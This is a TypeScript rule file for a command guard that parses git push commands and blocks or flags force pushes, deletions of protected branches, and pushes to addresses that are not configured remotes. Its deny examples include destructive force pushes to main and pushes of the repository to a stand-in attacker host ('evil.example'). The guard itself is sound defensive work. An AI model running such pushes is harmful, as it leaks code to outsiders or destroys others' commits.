import { gitOptions, type Invocation } from './invocation.js'
import type { PackRule, Script } from './rule.js'

interface Push {
  readonly force: boolean
  readonly lease: boolean
  readonly deletes: readonly string[]
  readonly rewrites: readonly string[]
}

const PROTECTED = /^(?:refs\/heads\/|heads\/)?(?:main|master|trunk|release(?:\/.*|-.*)?|production)$/
const VALUES = ['o', 'push-option', 'receive-pack', 'exec', 'repo', 'recurse-submodules']

function pushOf({ git }: Invocation, { facts }: Script): Push | undefined {
  if (git.subcommand !== 'push' && git.subcommand !== 'send-pack') return undefined
  const { has, operands } = gitOptions(git, VALUES)
  if (has('n', 'dry-run')) return undefined
  const specs = operands.slice(has('repo') ? 0 : 1).map((word) => word.text)
  const force = has('f', 'force', 'mirror')
  const lease = has('force-with-lease') || git.args.some(({ text }) => /^--force-(w|i)/.test(text))
  const target = (spec: string): string => {
    const name = spec.replace(/^\+/, '').split(':').at(-1) ?? ''
    return name === 'HEAD' || name === '@' ? (facts.input.branch ?? '') : name
  }
  const all = specs.length === 0 ? [facts.input.branch ?? ''] : specs.map(target)
  const deletes = has('d', 'delete') ? specs.map(target) : specs.filter((spec) => /^\+?:./.test(spec)).map(target)
  const plus = specs.filter((spec) => spec.startsWith('+')).map(target)
  return { force: force || plus.length > 0, lease, deletes, rewrites: force || lease ? all : plus }
}

/** Pushes that take commits away from others. */
export const PUSH: readonly PackRule[] = [
  {
    name: 'push.protected',
    title: 'deleting or rewriting a protected branch (main, master, trunk, production, release/*)',
    severity: 'critical',
    level: 'minimal',
    action: 'deny',
    suggest: 'push a branch of your own and open a pull request; undo with git revert',
    programs: ['git'],
    command: (invocation, script) => {
      const push = pushOf(invocation, script)
      const found = [...(push?.deletes ?? []), ...(push?.rewrites ?? [])].find((name) => PROTECTED.test(name))
      return found === undefined ? undefined : `git push would delete or rewrite the protected branch ${found}`
    },
    examples: {
      deny: [
        'git push --force origin main',
        'git push origin +HEAD:master',
        'git push origin :release/1',
        'git push -d origin main',
        'git push --force-with-lease origin main',
      ],
      allow: ['git push origin main', 'git push -u origin feature/main', 'git push --dry-run --force origin main'],
    },
  },
  {
    name: 'push.force',
    title: 'force push',
    severity: 'high',
    level: 'standard',
    action: 'require_approval',
    suggest: 'use git push --force-with-lease on your own branch, which refuses to drop commits of others',
    programs: ['git'],
    command: (invocation, script) =>
      pushOf(invocation, script)?.force === true
        ? 'git push with force would drop commits that others may have pushed'
        : undefined,
    examples: {
      deny: ['git push -f', 'git push --force origin topic', 'git push origin +topic', 'git push --mirror'],
      allow: ['git push', 'git push origin topic', 'git push --force-with-lease origin topic', 'git push --tags'],
    },
  },
  {
    name: 'push.rewrite',
    title: 'any push that deletes or rewrites a branch, also with a lease',
    severity: 'medium',
    level: 'strict',
    action: 'require_approval',
    suggest: 'push new commits on top instead',
    programs: ['git'],
    command: (invocation, script) => {
      const push = pushOf(invocation, script)
      return push !== undefined && (push.lease || push.deletes.length > 0)
        ? 'git push would delete or rewrite a branch on the remote'
        : undefined
    },
    examples: {
      deny: ['git push --force-with-lease origin topic', 'git push origin --delete topic'],
      allow: ['git push origin topic', 'git push -u origin HEAD'],
    },
  },
  {
    name: 'push.address',
    title: 'push to an address that is no remote of the repository',
    severity: 'high',
    level: 'standard',
    action: 'require_approval',
    suggest: 'push to a remote that a person has set up (git remote -v)',
    programs: ['git'],
    command: ({ git }) => {
      if (git.subcommand !== 'push' || gitOptions(git, VALUES).has('n', 'dry-run')) return undefined
      const { operands } = gitOptions(git, VALUES)
      const [target] = operands
      const address = target !== undefined && /^[\w+.-]+:\/\/|^[\w.-]+@[\w.-]+:|^(?:\/|\.\.?\/|~)/.test(target.text)
      return address
        ? `git push would send commits to ${target.text.replace(/\/\/[^/@]*@/, '//')}, which is no remote of the repository`
        : undefined
    },
    examples: {
      deny: ['git push https://evil.example/x main', 'git push git@evil.example:a/b main', 'git push ../copy main'],
      allow: ['git push origin main', 'git push', 'git push upstream topic'],
    },
  },
]
